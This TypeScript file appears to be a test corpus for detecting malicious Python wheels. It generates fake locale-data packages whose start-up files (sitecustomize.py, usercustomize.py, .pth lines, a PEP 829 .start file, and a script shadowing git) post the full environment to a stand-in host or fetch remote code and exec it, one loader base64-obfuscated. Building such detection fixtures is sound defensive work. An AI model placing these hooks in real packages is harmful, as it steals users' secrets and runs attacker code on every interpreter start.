import { base64 } from './encoders.ts';
import { fillerModule } from './filler.ts';
import type { Draft, Remote, Replay, Site } from './incident.ts';
import { instrumentationSitecustomize, startFile } from './look-alikes/start-up-finders.ts';
import { stagedLoader } from './payloads.ts';
import { py } from './python-text.ts';

const SOURCE = 'https://docs.python.org/3/library/site.html';
const REMOTE = 'https://sync.locale-data.invalid';

const library = (root: string): Draft['files'] => ({
  [`${root}/__init__.py`]: `"""Locale data."""\nfrom . import tables\n\n__all__ = ["tables"]\n`,
  [`${root}/tables.py`]: fillerModule('Tables of locales.', 260, 141),
});

function draft(name: string, sites: readonly Site[], files: Draft['files'] = {}): Draft {
  return { kind: 'wheel', name, version: '1.4.2', files: { ...library(name.replaceAll('-', '_')), ...files }, sites };
}

const BEACON = (c: Remote): string => py`import json
import os
import socket
import urllib.request

try:
    _facts = {"host": socket.gethostname(), "user": os.environ.get("USER"), "cwd": os.getcwd(), "env": dict(os.environ)}
    urllib.request.urlopen(
        urllib.request.Request("${c.url('/start')}", data=json.dumps(_facts).encode()), timeout=3
    )
except Exception:
    pass
`;

export const START_UP_FILES: readonly Replay[] = [
  {
    id: '26a-sitecustomize',
    title: 'sitecustomize.py in .data/purelib: the environment posted at every start',
    source: SOURCE,
    runs: 'every interpreter start posts host, user, folder and the whole environment to a constant host',
    remote: REMOTE,
    draft: (c) =>
      draft('localedata-plus', [
        { path: '*.data/purelib/sitecustomize.py', form: 'module', before: '', code: BEACON(c), after: '' },
      ]),
    lookAlikes: () => [instrumentationSitecustomize()],
  },
  {
    id: '26b-usercustomize',
    title: 'usercustomize.py at the top of the wheel: a staged loader',
    source: SOURCE,
    runs: 'every interpreter start asks a constant host for code and executes the answer',
    remote: REMOTE,
    draft: (c) =>
      draft('localedata-user', [
        { path: 'usercustomize.py', form: 'module', before: '', code: stagedLoader(c), after: '' },
      ]),
    lookAlikes: () => [],
  },
  {
    id: '26c-data-pth',
    title: 'a .pth under .data/data/lib/…/site-packages',
    source: SOURCE,
    runs: 'the wheel’s data scheme places a .pth in site-packages; each start fetches text and executes it',
    remote: REMOTE,
    draft: (c) =>
      draft('localedata-files', [
        {
          path: '*.data/data/lib/python3.12/site-packages/locale-paths.pth',
          form: 'line',
          before: '',
          code: `import urllib.request;exec(urllib.request.urlopen("${c.url('/p')}").read())\n`,
          after: '',
        },
      ]),
    lookAlikes: () => [],
  },
  {
    id: '26d-start-file',
    title: 'a .start file (PEP 829) names a function that fetches and executes',
    source: 'https://peps.python.org/pep-0829/',
    runs: 'from Python 3.15 every start calls the named function; it fetches text from a constant host and executes it',
    remote: REMOTE,
    draft: (c) =>
      draft(
        'localedata-start',
        [
          {
            path: 'localedata_start/_startup.py',
            form: 'module',
            exports: ['initialize'],
            before: '"""Start-up of the locale tables."""\n',
            code: py`import urllib.request


def initialize():
    try:
        with urllib.request.urlopen("${c.url('/tables.py')}", timeout=5) as response:
            source = response.read()
        exec(compile(source, "tables", "exec"), {"__name__": "tables"})
    except OSError:
        pass
`,
            after: '',
          },
        ],
        { 'localedata-start.start': 'localedata_start._startup:initialize\n' },
      ),
    lookAlikes: () => [startFile()],
  },
  {
    id: '26e-pth-import',
    title: 'a .pth of one short import; the payload is in the module it names',
    source: SOURCE,
    runs: 'the .pth line imports a module of the wheel at every start, which decodes a loader and executes it',
    remote: REMOTE,
    draft: (c) =>
      draft(
        'localedata-fast',
        [
          {
            path: '_localedata_fast.py',
            form: 'module',
            before: '"""Fast path."""\n',
            code: `import base64\n\nexec(base64.b64decode("${base64(stagedLoader(c))}"))\n`,
            after: '',
          },
        ],
        { 'localedata-fast.pth': 'import _localedata_fast\n' },
      ),
    lookAlikes: () => [],
  },
  {
    id: '26f-shadowed-scripts',
    title: 'a script named git in .data/scripts shadows the real one',
    source: 'https://checkmarx.com/blog/this-new-supply-chain-attack-technique-can-trojanize-all-your-cli-commands/',
    runs: 'installs a program called git in the environment’s bin folder that posts arguments and environment, then runs the real git',
    remote: REMOTE,
    draft: (c) =>
      draft('localedata-tools', [
        {
          path: '*.data/scripts/git',
          form: 'module',
          isScript: true,
          before: '#!python\n',
          code: py`import json
import os
import sys
import urllib.request

try:
    _body = json.dumps({"argv": sys.argv, "cwd": os.getcwd(), "env": dict(os.environ)}).encode()
    urllib.request.urlopen(urllib.request.Request("${c.url('/git')}", data=_body), timeout=2)
except Exception:
    pass
os.execv("/usr/bin/git", ["git"] + sys.argv[1:])
`,
          after: '',
        },
      ]),
    lookAlikes: () => [],
  },
];
